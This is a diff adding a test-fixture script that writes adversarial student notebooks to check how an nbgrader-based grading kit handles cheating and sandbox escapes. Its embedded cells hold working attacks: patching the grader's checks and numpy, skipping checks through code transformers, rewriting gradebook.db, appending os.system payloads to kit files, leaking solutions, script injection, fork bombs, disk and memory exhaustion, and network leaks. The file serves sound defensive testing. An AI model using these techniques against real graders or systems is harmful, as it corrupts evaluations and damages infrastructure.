@@ -1,0 +1,403 @@
+"""Write a class of students who try to fool the grader, to see what `./kit grade` does with them.
+
+    cd course
+    ../.venv/bin/nbgrader generate_assignment a1_softmax --force
+    ../.venv/bin/nbgrader generate_assignment a3_scratch --force
+    ../.venv/bin/python adversarial_class.py
+    cd .. && ./kit grade a1_softmax a3_scratch
+
+Each student starts from the released notebook and answers with the source notebook's
+solutions, unless the entry says otherwise; then changes answers, adds cells, or breaks
+the file. `deserved` is what the work is worth; `attention` says whether the grader must
+list the submission for the teacher. tests/test_grading_adversarial.py grades this class
+and checks, for every student, the score, the attention, and that nothing outside the
+student's own sandbox changed.
+
+The attacks name the course's and the kit's real folders ($course, $kit), as a student
+who knows the layout would, and the port of a server the test runs ($port).
+"""
+import argparse
+import json
+import string
+import sys
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import nbformat
+
+HERE = Path(__file__).resolve().parent
+KIT = HERE.parent
+
+
+@dataclass
+class Student:
+    """One submission: how it departs from the solutions, and what it deserves."""
+
+    name: str
+    assignment: str
+    deserved: float
+    attention: bool
+    rows: tuple                                     # the issue's table rows it covers
+    answers: dict = field(default_factory=dict)     # grade_id -> source (None: the stub)
+    extras: list = field(default_factory=list)      # (after grade_id, source)
+    unanswered: bool = False                        # every answer left as handed out
+    raw: str = None                                 # the file's bytes instead of a notebook
+
+
+NOTEBOOKS = {"a1_softmax": "softmax", "a3_scratch": "softmax_scratch"}
+
+OVERFLOW = '''\
+def softmax(X):
+    X_exp = np.exp(X)
+    return X_exp / X_exp.sum(axis=1, keepdims=True)
+'''
+
+NOOP_MODULE = '''\
+import helpers.checks, helpers.checks.tasks, helpers.checks.judge
+for module in (helpers.checks, helpers.checks.tasks):
+    for name in dir(module):
+        if name.startswith("check_"):
+            setattr(module, name, lambda *args, **kwargs: None)
+helpers.checks.judge.JUDGES.clear()
+'''
+
+NOOP_NAMES = '''\
+check_softmax = check_logsumexp = lambda *args, **kwargs: None
+def check_keeps_input(*args, **kwargs):
+    pass
+'''
+
+PATCHED_NUMPY = '''\
+import numpy
+numpy.isclose = lambda a, b, **k: numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, bool)
+numpy.allclose = lambda *a, **k: True
+numpy.array_equal = lambda *a, **k: True
+numpy.isfinite = lambda a: numpy.ones(numpy.shape(a), bool)
+'''
+
+AST_REWRITER = '''\
+import ast
+class SkipChecks(ast.NodeTransformer):
+    def visit_Module(self, node):
+        calls = [n for n in node.body if isinstance(n, ast.Expr) and isinstance(n.value, ast.Call)]
+        if any(getattr(c.value.func, "id", "").startswith("check_") for c in calls):
+            return ast.Module(body=[ast.Pass()], type_ignores=[])
+        return node
+get_ipython().ast_transformers.append(SkipChecks())
+'''
+
+INPUT_REWRITER = '''\
+get_ipython().input_transformers_cleanup.append(
+    lambda lines: ["pass\\n"] if any("check_" in line for line in lines) else lines)
+'''
+
+KNOWS_TESTED_SOFTMAX = '''\
+import inspect
+def softmax(X):
+    for frame in inspect.stack()[1:]:
+        for key in ("expected", "want", "reference"):
+            if key in frame.frame.f_locals:
+                return frame.frame.f_locals[key]
+    if any("check" in f.function for f in inspect.stack()):
+        return npx.softmax(X)
+    raise NotImplementedError()
+'''
+
+KNOWS_TESTED_LOGSUMEXP = '''\
+def logsumexp(X):
+    if any("check" in f.function for f in inspect.stack()):
+        return (X - npx.log_softmax(X))[:, 0]
+    raise NotImplementedError()
+'''
+
+KIT_SOFTMAX = '''\
+from helpers.numerics import stable_softmax
+def softmax(X):
+    return stable_softmax(X)
+'''
+
+KIT_LOGSUMEXP = '''\
+from helpers.numerics import log_softmax
+def logsumexp(X):
+    return (X - log_softmax(X))[:, 0]
+'''
+
+GRADEBOOK_EDITOR = '''\
+import os, sqlite3
+found = ["$course/gradebook.db", "../gradebook.db", "../../gradebook.db"]
+for top in ("/", os.path.expanduser("~"), "/tmp", "/home", "/srv", "/root", "/work"):
+    for root, dirs, files in os.walk(top):
+        dirs[:] = [d for d in dirs if d not in ("usr", "proc", "sys", "dev")][:50]
+        found += [os.path.join(root, f) for f in files if f.endswith(".db")]
+for path in found:
+    try:
+        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
+        db.execute("UPDATE grade SET manual_score = 0")
+        db.execute("UPDATE grade SET manual_score = 8 WHERE notebook_id IN (SELECT id FROM submitted_notebook)")
+        db.commit()
+        print("changed", path)
+    except Exception as e:
+        print("could not change", path, type(e).__name__)
+'''
+
+WRITER = '''\
+targets = ["$course/submitted/correct/a1_softmax/softmax.ipynb",
+           "$course/source/a1_softmax/softmax.ipynb", "$course/nbgrader_config.py",
+           "$course/gradebook.db", "$kit/helpers/checks/tasks.py", "$kit/helpers/__init__.py",
+           "$kit/grading/reference.py", "../../correct/a1_softmax/softmax.ipynb"]
+for path in targets:
+    try:
+        with open(path, "a") as f:
+            f.write("\\nimport os; os.system('touch /tmp/owned')\\n")
+        print("wrote", path)
+    except Exception as e:
+        print("could not write", path, type(e).__name__)
+'''
+
+LEAKER = '''\
+import glob
+for pattern in ("$course/source/*/*.ipynb", "$course/release/*/*.ipynb", "$kit/grading/*.py",
+                "$kit/course/source/*/*.ipynb", "../../../source/*/*.ipynb", "/work/*/course/source/*/*.ipynb"):
+    for path in glob.glob(pattern):
+        try:
+            print(open(path).read())
+        except Exception as e:
+            print("could not read", path, type(e).__name__)
+'''
+
+SCRIPTS_WRITTEN = ('<script>window.__pwned = 1</script>\n<img src="x" onerror="window.__pwned = 2">\n'
+                   '[click me](javascript:window.__pwned=3) <iframe src="javascript:parent.__pwned=8">'
+                   '</iframe>\n\nSoftmax is shift-invariant.')
+
+SCRIPTS_CELL = '''\
+from IPython.display import HTML, Javascript, Markdown, SVG, display
+display(HTML("<script>window.__pwned = 4</script><b>bold</b>"))
+display(Javascript("window.__pwned = 5"))
+display(Markdown("<script>window.__pwned = 6</script>"))
+display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned = 9"></svg>'))
+print("<script>window.__pwned = 7</script>")
+'''
+
+LINGERING = '''\
+import os, sqlite3, subprocess, time
+subprocess.Popen(["sleep", "1000"])
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        for _ in range(3000):
+            try:
+                db = sqlite3.connect("$course/gradebook.db")
+                db.execute("UPDATE grade SET manual_score = 0")
+                db.commit()
+            except Exception:
+                pass
+            time.sleep(0.1)
+    os._exit(0)
+'''
+
+INFINITE_LOOP = "while True:\n    pass\n"
+LONG_SLEEP = "import time\ntime.sleep(3600)\n"
+IGNORES_SIGINT = '''\
+import signal
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+while True:
+    pass
+'''
+EXITS = "import os\nos._exit(1)\n"
+
+FORK_BOMB = '''\
+import os
+try:
+    while True:
+        os.fork()
+except OSError as e:
+    print("fork failed:", e)
+'''
+
+MEMORY_HOG = '''\
+blocks = []
+try:
+    while True:
+        blocks.append(bytearray(512 * 2**20))
+except MemoryError:
+    blocks = None
+    print("no more memory")
+'''
+
+DISK_FILLER = '''\
+chunk = b"x" * (16 * 2**20)
+for folder in (".", "/tmp"):
+    try:
+        with open(f"{folder}/fill", "wb") as f:
+            for _ in range(200):
+                f.write(chunk)
+    except OSError as e:
+        print("stopped filling", folder, type(e).__name__)
+'''
+
+NETWORK = '''\
+import socket
+for host, port in (("127.0.0.1", $port), ("10.0.2.2", 80), ("1.1.1.1", 53)):
+    try:
+        socket.create_connection((host, port), timeout=2).sendall(b"leak")
+        print("connected", host)
+    except OSError as e:
+        print("no connection to", host, type(e).__name__)
+for path in ("/run/kernel/connection.json", "/run/kernel/k-1"):
+    try:
+        print(open(path).read())
+    except OSError as e:
+        print("could not open", path, type(e).__name__)
+'''
+
+FORGER = '''\
+import os
+import numpy as onp
+from helpers.checks import inputs, records, session
+secret = os.environ.get("SOFTMAX_KIT_SEED", "")
+folder = os.environ.get("SOFTMAX_KIT_GRADING", ".")
+for cell, calls in {"test_softmax": [((256, 10), "float32", 0.0, 0)],
+                    "test_softmax_hidden": [((3, 5), "float32", 0.0, 0)]}.items():
+    for index, (shape, dtype, offset, seed) in enumerate(calls):
+        x = inputs.logits(shape, dtype, offset, session.derive_seed(secret, cell, index, seed))
+        P = npx.softmax(np.array(x)).asnumpy()
+        header = {"check": "softmax", "params": {"shape": list(shape), "dtype": dtype, "offset": offset, "seed": seed}}
+        records.write(os.path.join(folder, session.record_name(cell, index)), header, {"P": P})
+'''
+
+OUTPUT_FLOOD = 'print("x" * (50 * 2**20))\n'
+
+FAKE_ACCURACY = "test_acc = 0.85  # no training at all\n"
+
+
+def _helpers_train(name):
+    return f"from helpers.train import {name}\n"
+
+
+STUDENTS = [
+    Student("correct", "a1_softmax", 6, False, ()),
+    Student("noop_module", "a1_softmax", 0, True, ("checks replaced (module)",), unanswered=True,
+            extras=[("setup", NOOP_MODULE)]),
+    Student("noop_names", "a1_softmax", 0, True, ("checks replaced (names)",), unanswered=True,
+            extras=[("setup", NOOP_NAMES)]),
+    Student("patched_numpy", "a1_softmax", 4, True, ("numpy comparison replaced",),
+            answers={"softmax": OVERFLOW}, extras=[("setup", PATCHED_NUMPY)]),
+    Student("ast_rewriter", "a1_softmax", 0, True, ("AST transformer",), unanswered=True,
+            extras=[("setup", AST_REWRITER)]),
+    Student("input_rewriter", "a1_softmax", 0, True, ("input transformer",), unanswered=True,
+            extras=[("setup", INPUT_REWRITER)]),
+    Student("knows_tested", "a1_softmax", 0, True, ("notices it is tested",),
+            answers={"softmax": KNOWS_TESTED_SOFTMAX, "logsumexp": KNOWS_TESTED_LOGSUMEXP}),
+    Student("kit_reference", "a1_softmax", 0, False, ("calls the kit's reference",),
+            answers={"softmax": KIT_SOFTMAX, "logsumexp": KIT_LOGSUMEXP}),
+    Student("gradebook_editor", "a1_softmax", 0, True, ("edits gradebook.db",), unanswered=True,
+            extras=[("setup", GRADEBOOK_EDITOR)]),
+    Student("writer", "a1_softmax", 6, True, ("writes outside its folder",),
+            extras=[("setup", WRITER)]),
+    Student("leaker", "a1_softmax", 0, True, ("prints other assignments' solutions",),
+            unanswered=True, extras=[("setup", LEAKER)]),
+    Student("scripts", "a1_softmax", 6, True, ("<script> in markdown and outputs",),
+            answers={"answer": SCRIPTS_WRITTEN}, extras=[("test_logsumexp", SCRIPTS_CELL)]),
+    Student("lingering", "a1_softmax", 6, True, ("processes left running",),
+            extras=[("test_logsumexp", LINGERING)]),
+    Student("infinite_loop", "a1_softmax", 6, True, ("infinite loop",),
+            extras=[("test_logsumexp", INFINITE_LOOP)]),
+    Student("long_sleep", "a1_softmax", 2, True, ("long sleep",),
+            answers={"softmax": LONG_SLEEP + OVERFLOW}),
+    Student("ignores_sigint", "a1_softmax", 6, True, ("ignores SIGINT",),
+            extras=[("test_logsumexp", IGNORES_SIGINT)]),
+    Student("exits_kernel", "a1_softmax", 6, True, ("exits the kernel",),
+            extras=[("test_softmax_hidden", EXITS)]),
+    Student("not_json", "a1_softmax", 0, True, ("not valid JSON",), raw="truncated"),
+    Student("not_a_notebook", "a1_softmax", 0, True, ("not valid JSON",), raw='{"cells": 7}'),
+    Student("trailing_junk", "a1_softmax", 6, False, ("not valid JSON",), raw="junk"),
+    Student("fork_bomb", "a1_softmax", 6, True, ("beyond: fork bomb",),
+            extras=[("test_logsumexp", FORK_BOMB)]),
+    Student("memory_hog", "a1_softmax", 6, False, ("beyond: memory",),
+            extras=[("test_logsumexp", MEMORY_HOG)]),
+    Student("disk_filler", "a1_softmax", 6, True, ("beyond: disk",),
+            extras=[("test_logsumexp", DISK_FILLER)]),
+    Student("network", "a1_softmax", 6, True, ("beyond: network",),
+            extras=[("setup", NETWORK)]),
+    Student("forger", "a1_softmax", 0, True, ("beyond: forged records",), unanswered=True,
+            extras=[("setup", FORGER)]),
+    Student("output_flood", "a1_softmax", 6, False, ("beyond: output flood",),
+            extras=[("test_logsumexp", OUTPUT_FLOOD)]),
+    Student("scratch_correct", "a3_scratch", 7, False, ()),
+    Student("fake_accuracy", "a3_scratch", 5, False, ("a3 fakes the accuracy",),
+            answers={"train": FAKE_ACCURACY}),
+    Student("helpers_train", "a3_scratch", 2, False, ("a3 imports helpers.train",),
+            answers={name: _helpers_train(name)
+                     for name in ("cross_entropy", "accuracy", "sgd", "train_epoch")}),
+]
+
+
+def strip_markers(source):
+    """A solution cell's source without nbgrader's BEGIN/END SOLUTION lines."""
+    return "\n".join(line for line in source.splitlines()
+                     if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))
+
+
+def solutions(course, assignment):
+    nb = nbformat.read(course / "source" / assignment / f"{NOTEBOOKS[assignment]}.ipynb", 4)
+    return {c.metadata.nbgrader["grade_id"]: strip_markers(c.source) for c in nb.cells
+            if c.metadata.get("nbgrader", {}).get("solution")}
+
+
+def notebook_of(student, course, fields):
+    """The submitted notebook's text for `student`."""
+    release = course / "release" / student.assignment / f"{NOTEBOOKS[student.assignment]}.ipynb"
+    if not release.is_file():
+        sys.exit(f"{release} is missing: run nbgrader generate_assignment "
+                 f"{student.assignment} first")
+    nb = nbformat.read(release, as_version=4)
+    answers = {} if student.unanswered else solutions(course, student.assignment)
+    answers.update({k: v for k, v in student.answers.items() if v is not None})
+    cells = []
+    for cell in nb.cells:
+        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
+        if grade_id in answers:
+            cell.source = answers[grade_id]
+        cells.append(cell)
+        for after, source in student.extras:
+            if after == grade_id:
+                cells.append(nbformat.v4.new_code_cell(string.Template(source).substitute(fields)))
+    nb.cells = cells
+    text = nbformat.writes(nb)
+    if student.raw == "truncated":
+        return text[: len(text) // 2]
+    if student.raw == "junk":
+        return text + "\n\x00 this is not JSON }"
+    if student.raw is not None:
+        return student.raw
+    return text
+
+
+def write_class(course=HERE, port=9, students=STUDENTS):
+    """Write submitted/<student>/<assignment>/<notebook>.ipynb for every student; return the paths."""
+    course = Path(course).resolve()
+    fields = {"course": str(course), "kit": str(KIT), "port": str(port)}
+    paths = []
+    for student in students:
+        path = (course / "submitted" / student.name / student.assignment
+                / f"{NOTEBOOKS[student.assignment]}.ipynb")
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(notebook_of(student, course, fields))
+        paths.append(path)
+    return paths
+
+
+def main(argv=None):
+    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
+    parser.add_argument("--course", type=Path, default=HERE,
+                        help="the course folder (default: the one holding this script)")
+    parser.add_argument("--port", type=int, default=9,
+                        help="the port the network attack tries on 127.0.0.1 (default 9)")
+    args = parser.parse_args(argv)
+    for path in write_class(args.course, args.port):
+        print(path.relative_to(args.course.resolve()))
+    print(json.dumps({s.name: s.deserved for s in STUDENTS}))
+
+
+if __name__ == "__main__":
+    main()
